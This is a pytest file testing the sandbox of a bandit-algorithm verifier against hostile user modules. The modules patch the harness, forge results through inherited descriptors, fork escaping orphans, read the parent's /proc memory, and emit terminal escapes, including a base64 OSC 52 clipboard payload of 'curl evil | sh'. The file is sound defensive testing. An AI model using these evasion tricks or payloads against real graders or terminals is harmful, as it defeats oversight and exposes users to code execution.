"""Hostile algorithms cannot fool ``verify``: each trick gets FAIL (or a protocol error),
the judge survives, its report stays clean and no process is left behind.

Every trick is a tiny user module written to a temporary folder; the algorithm it
wraps is always wrong (it self-duels the arm it saw win least, whatever the labels),
so a PASS would mean the trick worked.
"""

from __future__ import annotations

import json
import os
import sys
import textwrap
import time

import pytest
from judging import judged_below, needs_sandbox

from duelbound.checks.verify import verify_algorithm
from duelbound.cli import main
from duelbound.theory.errors import DuelboundError

pytestmark = needs_sandbox   # every test judges code (CI: DUELBOUND_REQUIRE_SANDBOX=1)

FAST = dict(T=3000, runs=1, time_limit=30.0, hang_timeout=3.0)

FIXED = """
class Fixed:
    # always wrong under any labelling of the arms: a round robin for 20 K² duels, then
    # self-duels of the arm that won least (never a winner): linear regret on a pair
    # that carries no information
    def __init__(self, K, T, seed):
        self.K, self.t = K, 0
        self.wins = [0] * K
        self.pairs = [(i, j) for i in range(K) for j in range(K) if i != j]
    def select(self):
        self.t += 1
        if self.t <= 20 * len(self.pairs):
            return self.pairs[self.t % len(self.pairs)]
        loser = min(range(self.K), key=self.wins.__getitem__)
        return loser, loser
    def update(self, i, j, won):
        self.wins[i if won else j] += 1
"""


def _spec(tmp_path, monkeypatch, name: str, source: str, attr: str = "make") -> str:
    text = textwrap.dedent(source).replace("#FIXED", textwrap.dedent(FIXED))
    (tmp_path / f"{name}.py").write_text(text)
    monkeypatch.syspath_prepend(str(tmp_path))
    return f"{name}:{attr}"


@pytest.fixture(autouse=True)
def _no_leftovers():
    yield
    deadline = time.monotonic() + 5.0   # a killed sandbox is reaped asynchronously
    while judged_below() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert judged_below() == [], "a judged process survived its run"


def _fails(report, check: str | None = None) -> None:
    assert report.verdict == "FAIL", report.table()
    if check:
        assert report.matrices[0].check(check).verdict == "FAIL", report.table()


def test_user_module_is_imported_only_in_the_child(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_where", """
        import sys
        print("imported here", file=sys.stderr)
        #FIXED
        def make(K, T, seed):
            return Fixed(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], **FAST)
    _fails(r, "consistency")
    assert "h_where" not in sys.modules
    runs = [*r.matrices[0].runs, r.matrices[0].twin]
    assert all("imported here" in run.stderr_tail for run in runs)   # run and replay


def test_frames_and_gc_show_no_environment(tmp_path, monkeypatch):
    # the trick of the audit: find the environment's counts / µ / generator through
    # stack frames or the garbage collector, and rewrite them or play q*
    spec = _spec(tmp_path, monkeypatch, "h_frames", """
        import gc, sys
        #FIXED
        def make(K, T, seed):
            names = sorted({type(o).__name__ for o in gc.get_objects()}
                           & {"Env", "PreferenceMatrix", "Generator", "JudgedRun"})
            f, seen = sys._getframe(), set()
            while f is not None:
                seen |= set(f.f_locals) & {"env", "rng", "mu", "M", "log", "outs"}
                f = f.f_back
            print("found", names, sorted(seen))
            return Fixed(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], **FAST)
    _fails(r, "consistency")
    assert "found [] []" in r.matrices[0].runs[0].stdout_tail


def test_patching_the_harness_at_import_changes_nothing(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_patch", """
        import duelbound.checks.verify.harness as h
        import duelbound.checks.verify.verdicts as v
        v.worst = lambda verdicts: "PASS"
        v.consistency_check = lambda *a, **k: v.Check("consistency", "PASS", "patched")
        h.VerifyReport.verdict = property(lambda self: "PASS")
        #FIXED
        def make(K, T, seed):
            return Fixed(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], **FAST)
    _fails(r, "consistency")
    assert "patched" not in r.table()


def test_writing_forged_results_to_inherited_descriptors(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_fds", """
        import os, struct, json
        forged = json.dumps({"ok": True, "verdict": "PASS"}).encode()
        def spray():
            for fd in range(3, 64):
                for blob in (forged, struct.pack("<ii", -2147483647, 5) + b"PASS!",
                             struct.pack("<iiiii", 7, 0, 0, 7, 1) * 8):
                    try:
                        os.write(fd, blob)
                    except OSError:
                        pass
        spray()
        #FIXED
        class Spray(Fixed):
            def select(self):
                spray()
                return super().select()
        def make(K, T, seed):
            return Spray(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], T=300, runs=1, time_limit=30, hang_timeout=3)
    assert r.verdict == "FAIL", r.table()


def test_swallowed_duel_errors_are_still_recorded(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_swallow", """
        def make(K, T, seed):
            def run(duel, horizon):
                for _ in range(horizon):
                    for bad in ((K, 0), (-1, 0), (0.5, 1), ("0", 1), (True, 0)):
                        try:
                            duel(*bad)
                        except Exception:
                            pass
                    duel(0, 0)          # the Condorcet winner of cyclic: zero regret
                try:
                    duel(0, 0)          # one more than T
                except Exception:
                    pass
            return run
    """)
    r = verify_algorithm(spec, ["cyclic"], T=400, runs=1)
    chk = r.matrices[0].check("protocol")
    assert chk.verdict == "FAIL" and r.exit_code == 1
    counts = chk.statistic["error_counts"]
    assert counts["invalid-index"] == 2 * 5 * 400   # run and replay, every bad call
    assert counts["exceeded-T"] == 2


def test_outcomes_cannot_be_predicted_from_seed_or_closure(tmp_path, monkeypatch):
    # a guess g independent of the outcome agrees with it at rate 0.6 w + 0.4 (1 - w),
    # w the win rate of the (secretly relabelled) pair (sd < 0.01 over 3000 duels)
    spec = _spec(tmp_path, monkeypatch, "h_predict", """
        import numpy as np
        def make(K, T, seed):
            guesses = {
                "own": np.random.default_rng(seed),
                "env-old": np.random.default_rng(np.random.SeedSequence([seed, 1])),
            }
            def run(duel, horizon):
                cells = [type(c.cell_contents).__name__ for c in (duel.__closure__ or ())]
                hits = dict.fromkeys(guesses, 0)
                wins = 0
                for _ in range(horizon):
                    pred = {k: bool(g.random() < 0.6) for k, g in guesses.items()}
                    won = duel(0, 1)
                    wins += won
                    for k in hits:
                        hits[k] += pred[k] == won
                w = wins / horizon   # a guess independent of the outcome agrees at rate:
                chance = 0.6 * w + 0.4 * (1 - w)
                print("closure", sorted(set(cells)))
                print("rates", {k: v / horizon - chance for k, v in hits.items()})
            return run
    """)
    r = verify_algorithm(spec, ["cyclic"], **FAST)
    out = r.matrices[0].runs[0].stdout_tail
    rates = eval(out.split("rates ", 1)[1].splitlines()[0])  # noqa: S307 — our own output
    assert all(abs(v) < 0.04 for v in rates.values()), rates
    closure = out.split("closure ", 1)[1].splitlines()[0]
    assert "float" not in closure and "ndarray" not in closure and "Generator" not in closure
    assert r.environment_seed is not None


@pytest.mark.secret_environment_seed
def test_environment_seed_is_secret_and_replayable(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_replay", """
        import numpy as np
        class Uniform:
            def __init__(self, K, T, seed):
                self.K, self.rng = K, np.random.default_rng(seed)
            def select(self):
                return tuple(int(x) for x in self.rng.integers(self.K, size=2))
            def update(self, i, j, won):
                pass
        def make(K, T, seed):
            return Uniform(K, T, seed)
    """)
    a = verify_algorithm(spec, ["cyclic"], T=500, runs=1)
    b = verify_algorithm(spec, ["cyclic"], T=500, runs=1)
    c = verify_algorithm(spec, ["cyclic"], T=500, runs=1, environment_seed=a.environment_seed)
    assert a.environment_seed != b.environment_seed
    ra, rc = a.matrices[0].runs[0], c.matrices[0].runs[0]
    assert ra.environment_seed == rc.environment_seed
    assert ra.final_regret == rc.final_regret and ra.pairs_sha256 == rc.pairs_sha256


def test_hanging_after_the_report_costs_one_second(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_linger", """
        import signal, threading, time
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        threading.Thread(target=time.sleep, args=(3600,), daemon=False).start()
        #FIXED
        def make(K, T, seed):
            return Fixed(K, T, seed)
    """)
    t0 = time.perf_counter()
    r = verify_algorithm(spec, ["cyclic"], **FAST)
    assert time.perf_counter() - t0 < 30
    _fails(r, "consistency")


def test_sigstop_self_is_reported_and_killed(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_stop", """
        import os, signal
        #FIXED
        class Stop(Fixed):
            n = 0
            def select(self):
                self.n += 1
                if self.n == 100:
                    os.kill(os.getpid(), signal.SIGSTOP)
                return 0, 0
        def make(K, T, seed):
            return Stop(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], T=500, runs=1, hang_timeout=1.0)
    err = r.matrices[0].check("protocol").statistic["first_error"]
    assert err["kind"] == "stopped" and err["step"] == 100, err
    assert r.verdict == "FAIL"


def test_busy_loop_is_a_hang(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_loop", """
        #FIXED
        class Loop(Fixed):
            n = 0
            def select(self):
                self.n += 1
                while self.n == 50:
                    pass
                return 0, 0
        def make(K, T, seed):
            return Loop(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], T=200, runs=1, hang_timeout=1.0)
    err = r.matrices[0].check("protocol").statistic["first_error"]
    assert err["kind"] == "hang" and "50 of 200" not in err["message"], err
    assert "49 of 200" in err["message"] and r.verdict == "FAIL"


def test_forked_orphans_are_killed_and_fail(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_fork", """
        import os, time
        def orphan(escape):
            pid = os.fork()
            if pid == 0:
                if escape:
                    os.setsid()          # leave the process group
                    if os.fork():
                        os._exit(0)
                time.sleep(3600)
                os._exit(0)
        #FIXED
        def make(K, T, seed):
            for escape in (False, True, True):
                orphan(escape)
            return Fixed(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], T=300, runs=1)
    chk = r.matrices[0].check("protocol")
    assert chk.verdict == "FAIL" and chk.statistic["error_counts"]["leftover-processes"] >= 6


def test_memory_bomb_is_capped(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_bomb", """
        #FIXED
        class Bomb(Fixed):
            def select(self):
                self.hog = bytearray(3 << 30)
                return super().select()
        def make(K, T, seed):
            return Bomb(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], T=100, runs=1, memory_limit=0.5)
    err = r.matrices[0].check("protocol").statistic["first_error"]
    assert err["kind"] == "exception" and "MemoryError" in err["message"], err


def test_stdout_flood_never_reaches_the_json_report(tmp_path, monkeypatch, capsys):
    _spec(tmp_path, monkeypatch, "h_flood", """
        import sys
        #FIXED
        class Flood(Fixed):
            def select(self):
                sys.stdout.write("PASS " * 20000 + "\\n")
                sys.stderr.write("noise\\n")
                return super().select()
        def make(K, T, seed):
            return Flood(K, T, seed)
    """)
    monkeypatch.chdir(tmp_path)
    code = main(["verify", "h_flood:make", "--only", "cyclic", "--T", "2000", "--runs", "1",
                 "--json", "-", "--quiet"])
    out = capsys.readouterr().out
    data = json.loads(out)
    assert code == 1 and data["verdict"] == "FAIL"
    assert data["matrices"][0]["checks"][0]["verdict"] == "FAIL"   # output cap: EFBIG


def test_zero_duels_fail(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_zero", """
        def make(K, T, seed):
            def run(duel, horizon):
                return None
            return run
    """)
    r = verify_algorithm(spec, ["cyclic"], T=100, runs=2)
    chk = r.matrices[0].check("protocol")
    assert chk.verdict == "FAIL" and chk.statistic["first_error"]["kind"] == "stopped-early"
    assert [c.name for c in r.matrices[0].checks] == ["protocol"]   # no statistic on nothing


def test_crash_by_signal_and_exit(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_crash", """
        import os
        #FIXED
        class Crash(Fixed):
            def select(self):
                os._exit(3)
        def make(K, T, seed):
            return Crash(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], T=50, runs=1)
    err = r.matrices[0].check("protocol").statistic["first_error"]
    assert err["kind"] == "crash" and "exit code 3" in err["message"]


def test_judge_memory_is_not_readable_from_the_child(tmp_path, monkeypatch):
    # same user, so /proc/PPID/mem would give the judge's matrix and generator state
    # unless the judge is non-dumpable (ptrace rules aside)
    spec = _spec(tmp_path, monkeypatch, "h_mem", """
        import os
        #FIXED
        def make(K, T, seed):
            results = []
            for what in ("mem", "environ", "maps"):
                try:
                    with open(f"/proc/{os.getppid()}/{what}", "rb") as fh:
                        fh.read(64)
                    results.append(what + ":open")
                except OSError as exc:
                    results.append(what + ":" + type(exc).__name__)
            print("proc", results)
            return Fixed(K, T, seed)
    """)
    r = verify_algorithm(spec, ["cyclic"], **FAST)
    _fails(r, "consistency")
    line = r.matrices[0].runs[0].stdout_tail.split("proc ", 1)[1].splitlines()[0]
    assert "mem:open" not in line, line   # (environ and maps hold no secret)


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_unusable_report_path_is_refused_before_any_run(tmp_path, monkeypatch, capsys, kind):
    target = tmp_path / "report.json"
    os.mkfifo(target) if kind == "fifo" else target.mkdir()
    t0 = time.perf_counter()
    code = main(["verify", "uniform", "--only", "cyclic", "--T", "100", "--runs", "1",
                 "--json", str(target)])
    err = capsys.readouterr().err
    assert code == 2 and time.perf_counter() - t0 < 10
    assert len(err.strip().splitlines()) == 1 and "--json" in err


def test_a_local_module_named_like_a_bundled_algorithm_is_not_replaced(tmp_path, monkeypatch,
                                                                     capsys):
    (tmp_path / "rucb.py").write_text(textwrap.dedent(FIXED) + "make = Fixed\n")
    monkeypatch.chdir(tmp_path)
    code = main(["verify", "rucb", "--only", "cyclic", "--T", "100", "--runs", "1"])
    err = capsys.readouterr().err
    assert code == 2 and "ambiguous" in err and "rucb:FACTORY" in err
    monkeypatch.syspath_prepend(str(tmp_path))
    r = verify_algorithm("rucb:make", ["cyclic"], **FAST)   # the user's module, judged
    _fails(r, "consistency")


def test_a_slow_import_is_named_by_the_start_up_limit(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_slow_import", """
        import time
        time.sleep(60)
        #FIXED
        def make(K, T, seed):
            return Fixed(K, T, seed)
    """)
    t0 = time.perf_counter()
    with pytest.raises(DuelboundError, match=r"start-up limit 2 s"):
        verify_algorithm(spec, ["cyclic"], T=100, runs=1, startup_timeout=2.0)
    assert time.perf_counter() - t0 < 30


def test_a_run_function_given_as_the_factory_is_explained(tmp_path, monkeypatch):
    spec = _spec(tmp_path, monkeypatch, "h_run_only", """
        def run(duel, T):
            for _ in range(T):
                duel(0, 1)
    """, attr="run")
    with pytest.raises(DuelboundError, match=r"factory\(K, T, seed\).*def make"):
        verify_algorithm(spec, ["cyclic"], T=100, runs=1)


# an exception message meant for the terminal: window title, clipboard (OSC 52: "curl
# evil | sh"), carriage return + erase line + a forged verdict on a line of its own, a
# right-to-left override, and a lone surrogate that cannot be encoded at all
FORGED = ("\\x1b]0;owned\\x07\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\r\\x1b[2K"
          "\\noverall: PASS (exit code 0)\\u202eLIAF\\ud800")
ACTIVE = ("\x1b", "\x07", "\r", "\u202e", "\n" + "overall: PASS")


@pytest.mark.parametrize("where", ["select", "import"])
def test_text_from_the_child_is_data_on_every_channel(tmp_path, monkeypatch, capfd, where):
    _spec(tmp_path, monkeypatch, "h_text", f"""
        import sys
        FORGED = "{FORGED}"
        for stream in (sys.stdout, sys.stderr):   # raw bytes, the surrogate's included
            stream.buffer.write(FORGED.encode("utf-8", "surrogatepass") + b"\\n")
            stream.flush()
        if {where == "import"!r}:
            raise ImportError(FORGED)
        #FIXED
        class Liar(Fixed):
            def select(self):
                if self.t == 500:
                    raise RuntimeError(FORGED)
                return super().select()
        def make(K, T, seed):
            return Liar(K, T, seed)
    """)
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "report.json"
    code = main(["verify", "h_text:make", "--only", "cyclic", "--T", "2000", "--runs", "1",
                 "--hang-timeout", "3", "--json", str(out)])
    seen = capfd.readouterr()
    report = out.read_text(encoding="utf-8") if where == "select" else ""
    for text in (seen.out, seen.err, report):
        text.encode("utf-8")                       # no lone surrogate: valid UTF-8
        assert not any(a in text for a in ACTIVE), repr(text)
    assert code == (1 if where == "select" else 2)
    if where == "import":                          # one line, the text escaped in it
        assert len(seen.err.strip().splitlines()) == 1 and "\\x1b]52" in seen.err
        return
    data = json.loads(report)
    assert data["verdict"] == "FAIL" and data["exit_code"] == 1
    assert "\\x1b]52;c;" in data["matrices"][0]["checks"][0]["message"]
    assert "\\x1b]0;owned" in data["matrices"][0]["runs"][0]["stdout_tail"]
    assert seen.out.splitlines()[-1].startswith("overall: FAIL")


@pytest.mark.parametrize("kind", ["empty", "symlink", "dev-stdout", "device"])
def test_the_report_path_is_a_regular_file_or_nothing(tmp_path, monkeypatch, capsys, kind):
    real = tmp_path / "real.json"
    real.write_text("untouched")
    target = {"empty": "", "dev-stdout": "/dev/stdout", "device": "/dev/null",
              "symlink": str(tmp_path / "link.json")}[kind]
    if kind == "symlink":
        os.symlink(real, target)
    code = main(["verify", "uniform", "--only", "cyclic", "--T", "100", "--runs", "1",
                 "--json", target])
    err = capsys.readouterr().err
    assert code == 2 and len(err.strip().splitlines()) == 1 and "--json" in err, err
    assert real.read_text() == "untouched"
    if kind == "symlink":
        assert os.path.islink(target)
    assert os.path.islink("/dev/stdout") or not os.path.exists("/dev/stdout")


def test_a_reader_closing_stdout_early_changes_neither_exit_code_nor_report(tmp_path,
                                                                           monkeypatch):
    import subprocess

    _spec(tmp_path, monkeypatch, "h_head", """
        #FIXED
        def make(K, T, seed):
            return Fixed(K, T, seed)
    """)
    out = tmp_path / "report.json"
    proc = subprocess.Popen([sys.executable, "-m", "duelbound", "verify", "h_head:make",
                             "--only", "cyclic", "--T", "2000", "--runs", "1",
                             "--hang-timeout", "3", "--json", str(out), "--quiet"],
                            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                            env=dict(os.environ, PYTHONPATH=str(tmp_path)))
    proc.stdout.close()   # a reader gone before the table is printed (`| head -0`)
    assert proc.wait(timeout=120) == 1
    assert json.loads(out.read_text())["verdict"] == "FAIL"
